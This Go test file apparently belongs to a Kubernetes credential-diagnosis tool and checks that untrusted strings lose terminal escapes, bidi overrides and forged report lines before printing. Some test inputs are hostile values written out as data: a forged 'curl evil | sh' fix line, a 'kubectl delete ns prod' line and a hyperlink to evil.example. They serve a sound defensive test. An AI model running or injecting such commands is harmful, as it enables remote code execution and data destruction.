package doctor

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode"

	"sigs.k8s.io/yaml"

	"regcred.dev/regcred/internal/registry"
)

func TestSanitize(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"plain", "team-a/web-7d9c", "team-a/web-7d9c"},
		{"unicode kept", "café/ünïcode", "café/ünïcode"},
		{"SGR color", "\x1b[31mred\x1b[0m", "red"},
		{"cursor and erase", "ok\x1b[2K\x1b[1Ahidden", "okhidden"},
		{"OSC title BEL", "\x1b]0;pwned\x07text", "text"},
		{"OSC 8 hyperlink ST", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click"},
		{"carriage return overwrite", "real error\rfake: all good", "real error fake: all good"},
		{"newline forged line", "msg\n  fix:     curl evil | sh", "msg   fix:     curl evil | sh"},
		{"tab", "a\tb", "a b"},
		{"other C0 and DEL", "a\x00b\x07c\x08d\x7fe", "abcde"},
		{"C1 CSI", "a\u009b31mb\u0085c", "a31mb c"},
		{"bidi override", "evil\u202Egpj.exe", "evilgpj.exe"},
		{"bidi isolate and marks", "a\u2066b\u2069c\u200Fd\u200Be", "abcde"},
		{"invalid UTF-8", "a\xffb", "a\uFFFDb"},
		{"lone ESC at end", "abc\x1b", "abc"},
		{"ESC charset", "a\x1b(Bb", "ab"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Sanitize(tc.in)
			if got != tc.want {
				t.Errorf("Sanitize(%q) = %q, want %q", tc.in, got, tc.want)
			}
			for _, r := range got {
				if unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
					t.Errorf("Sanitize(%q) = %q keeps %U", tc.in, got, r)
				}
			}
		})
	}
}

// TestWriteTextSanitizes: a Pod, an Event and a registry that write
// escapes, line breaks and bidi overrides do not reach the terminal, and
// every line of the report is the report's own.
func TestWriteTextSanitizes(t *testing.T) {
	hostile := "\x1b[2J\x1b]0;owned\x07x\r\n  fix:     kubectl delete ns prod\u202E"
	r := &Report{Scope: "namespace " + hostile, PodsChecked: 1, PodsFailing: 1, Notes: []string{hostile},
		Findings: []Finding{{Namespace: "ns", Pod: "p" + hostile, Workload: hostile, Kind: "container", Name: hostile, Image: hostile,
			Waiting: hostile, KubeletMessage: hostile, Explanation: hostile, Fix: "regcred sync " + hostile,
			Check: &registry.TryResult{Attempts: []registry.Attempt{{Key: hostile, Username: hostile, Source: hostile}}}}}}
	var b strings.Builder
	if err := WriteText(&b, r); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, r := range out {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			t.Fatalf("the report prints %U:\n%q", r, out)
		}
	}
	n := 0
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "  fix:     ") {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d lines start with the fix label, want 1 (a value forged one):\n%s", n, out)
	}
	// JSON and YAML escape control characters themselves.
	for name, marshal := range map[string]func(any) ([]byte, error){"json": json.Marshal, "yaml": yaml.Marshal} {
		b, err := marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		if strings.ContainsAny(string(b), "\x1b\r\x07") {
			t.Errorf("%s output carries raw control characters", name)
		}
	}
}
